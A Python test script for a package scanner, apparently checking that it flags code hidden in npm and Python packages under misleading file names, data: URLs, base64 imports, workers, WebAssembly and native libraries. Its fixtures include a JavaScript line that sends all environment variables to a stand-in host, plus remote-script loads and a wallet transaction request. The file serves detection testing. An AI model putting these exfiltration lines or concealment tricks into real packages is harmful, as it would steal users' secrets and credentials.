#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""Modules and programs that a package loads under names that do not tell what they are."""
import argparse
import io
import json
import os
import subprocess
import sys
import tarfile
import tempfile
from base64 import b64encode
from pathlib import Path
from urllib.parse import quote

from test_native import elf, wheel as native_wheel

passed = failed = 0
POST = 'require("https").get("https://collect.example/?" + JSON.stringify(process.env));\n'
ESM = 'import h from "https"; h.get("https://collect.example/?" + JSON.stringify(process.env));'
MAIN = {"main": "index.js"}


def field(*parts):
    data = b"".join(parts)
    return bytes([len(data)]) + data


def word(text):
    return field(text.encode())


# a module that takes one function from its host and calls nothing
WASM = b"\0asm\1\0\0\0" + b"\1" + field(b"\1\x60\0\0") + b"\2" + field(b"\1", word("wasi_snapshot_preview1"), word("sock_send"), b"\0\0")


def report(program, tmp, path):
    env = {"PATH": os.environ["PATH"], "HOME": str(tmp)}
    r = subprocess.run([program, "scan", "--no-cache", "--format", "jsonl", str(path)], capture_output=True, timeout=300, env=env)
    return json.loads(r.stdout)


def scan(program, tmp, manifest, files):
    files = {"package.json": json.dumps({"name": "reef", "version": "1.0.0", **manifest}), **files}
    path = tmp / "reef-1.0.0.tgz"
    with tarfile.open(path, "w:gz") as t:
        for name, content in files.items():
            data = content if isinstance(content, bytes) else content.encode()
            info = tarfile.TarInfo("package/" + name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return report(program, tmp, path)


def uses(d):
    return {(c["id"], c["trigger"]) for c in d["capabilities"]}


def check(ok, what, d):
    global passed, failed
    passed, failed = passed + bool(ok), failed + (not ok)
    if not ok:
        print("FAILED", what, d["verdict"], sorted(uses(d)), d["coverage"])


# what, manifest, files, a use that is there
SEEN = [
    ("a module called .txt", MAIN, {"index.js": 'require("./w.txt");\n', "w.txt": POST}, ("net.http", "import")),
    ("a main called .txt", {"main": "lib/entry.txt"}, {"lib/entry.txt": POST}, ("net.http", "import")),
    ("a script called .png", {**MAIN, "scripts": {"postinstall": "node ./assets/logo.png"}}, {"index.js": "", "assets/logo.png": POST}, ("net.http", "install")),
    ("a folder with a manifest", MAIN, {"index.js": 'require("./assets");\n', "assets/package.json": '{"main": "logo.png"}', "assets/logo.png": POST}, ("net.http", "import")),
    ("a folder's main before its index", MAIN, {"index.js": 'require("./a");\n', "a/package.json": '{"main": "./run.js"}', "a/index.js": "", "a/run.js": POST}, ("net.http", "import")),
    ("late code that loads more of it", MAIN, {"index.js": 'require("./a.txt");\n', "a.txt": 'require("./b.dat");\n', "b.dat": POST}, ("net.http", "import")),
    ("imports of the manifest", {**MAIN, "imports": {"#z": "./lib/u.js"}}, {"index.js": 'require("#z");\n', "lib/u.js": POST}, ("net.http", "import")),
    ("imports by condition and star", {**MAIN, "imports": {"#lib/*": {"node": "./lib/*.js", "default": "./x.js"}}}, {"index.js": 'require("#lib/u").go();\n', "lib/u.js": "exports.go = () => {" + POST + "};\n"}, ("net.http", "import")),
    ("a path put together", MAIN, {"index.js": 'const p = require("path");\nrequire(p.join(__dirname, "lib", "w"));\n', "lib/w.js": POST}, ("net.http", "import")),
    ("a path put together that names no code", MAIN, {"index.js": "require(`${__dirname}/lib/w.txt`);\n", "lib/w.txt": POST}, ("net.http", "import")),
    ("Module._load", MAIN, {"index.js": 'require("module")._load(require("path").join(__dirname, "lib/w.dat"));\n', "lib/w.dat": POST}, ("net.http", "import")),
    ("createRequire", MAIN, {"index.js": 'import {createRequire} from "module";\nconst get = createRequire(import.meta.url);\nget("./w.dat");\n', "w.dat": POST}, ("net.http", "import")),
    ("an extension of its own", MAIN, {"index.js": 'require.extensions[".dat"] = require.extensions[".js"];\nrequire("./w.dat");\n', "w.dat": POST}, ("net.http", "import")),
    ("a worker called .txt", MAIN, {"index.js": 'const {Worker} = require("worker_threads");\nnew Worker(require("path").join(__dirname, "lib/w.txt"));\n', "lib/w.txt": POST}, ("net.http", "import")),
    ("import of an address", MAIN, {"index.js": f'import("data:text/javascript,{quote(ESM)}");\n'}, ("net.http", "import")),
    ("import of an address in base64", MAIN, {"index.js": f'import("data:text/javascript;base64,{b64encode(ESM.encode()).decode()}");\n'}, ("net.http", "import")),
    ("an address imported before all", {"main": "index.mjs"}, {"index.mjs": f"import 'data:text/javascript,{quote(ESM)}';\n"}, ("net.http", "import")),
    ("a worker of text", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker({json.dumps(POST)}, {{eval: true}});\n'}, ("net.http", "import")),
    ("a worker of an address", MAIN, {"index.js": f'const {{Worker}} = require("worker_threads");\nnew Worker(new URL("data:text/javascript,{quote(POST)}"));\n'}, ("net.http", "import")),
    ("an image's address", MAIN, {"index.js": 'new Image().src = "https://collect.example/?" + JSON.stringify(process.env);\n'}, ("net.http", "import")),
    ("a script's address", MAIN, {"index.js": 'const s = document.createElement("script");\ns.src = "https://collect.example/x.js";\n'}, ("net.http", "import")),
    ("markup with an address", MAIN, {"index.js": 'document.write("<script src=https://collect.example/x.js></script>");\n'}, ("net.http", "import")),
    ("a transaction asked of a wallet", MAIN, {"index.js": 'window.ethereum.request({method: "eth_sendTransaction", params: [{to: "0x1"}]});\n'}, ("net.http", "import")),
    ("process.dlopen", MAIN, {"index.js": 'process.dlopen(module, require("path").join(__dirname, "a.dat"));\n', "a.dat": elf(["system"])}, ("exec.shell", "import")),
    ("WebAssembly.instantiate", MAIN, {"index.js": 'const fs = require("fs");\nWebAssembly.instantiate(fs.readFileSync(require("path").join(__dirname, "a.wasm")), {});\n', "a.wasm": WASM}, ("net.socket", "import")),
    ("WebAssembly.Module", MAIN, {"index.js": 'const fs = require("fs");\nconst b = fs.readFileSync(__dirname + "/a.bin");\nnew WebAssembly.Instance(new WebAssembly.Module(b), {});\n', "a.bin": WASM}, ("net.socket", "import")),
]


def native():
    name, data = native_wheel({"thing/__init__.py": 'import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), "data", "blob.dat"))\n', "thing/data/blob.dat": elf(["system"])})
    return name, data


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--tidewaiter", required=True)
    program = os.path.abspath(ap.parse_args().tidewaiter)
    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        for what, manifest, files, use in SEEN:
            d = scan(program, tmp, manifest, files)
            check(use in uses(d) and all(g["reason"] == "native" for g in d["coverage"]["gaps"]), what, d)
        name, data = native()
        (tmp / name).write_bytes(data)
        d = report(program, tmp, tmp / name)
        check(("exec.shell", "import") in uses(d), "ctypes.CDLL of a file called .dat", d)
        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": POST})
        check(("net.http", "load") in uses(d), "a module that only its path loads", d)
        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": "#!/usr/bin/env node\n" + POST})
        check(("net.http", "command") in uses(d), "a script that no bin names", d)
        d = scan(program, tmp, MAIN, {"index.js": "", "lib/u.js": "if (require.main === module) {" + POST + "}\n"})
        check(("net.http", "command") in uses(d), "a main guard", d)
        d = scan(program, tmp, MAIN, {"index.js": 'window.ethereum.request({method: "eth_accounts"});\ndocument.write("<b>");\n'})
        check(not uses(d), "what a page may ask", d)
        d = scan(program, tmp, MAIN, {"index.js": 'require("./a.css");\n', "a.css": "body { color: red }\n.a .b { x: y; }\n"})
        check(d["verdict"] == "unreviewable" and d["coverage"]["gaps"], "what does not read as code stays a gap", d)
        d = scan(program, tmp, MAIN, {"index.js": "exports.x = 1;\n", "w.txt": POST})
        check(d["verdict"] == "clear", "text that nothing loads", d)
    print(f"{passed} passed, {failed} failed")
    return failed != 0


if __name__ == "__main__":
    sys.exit(main())
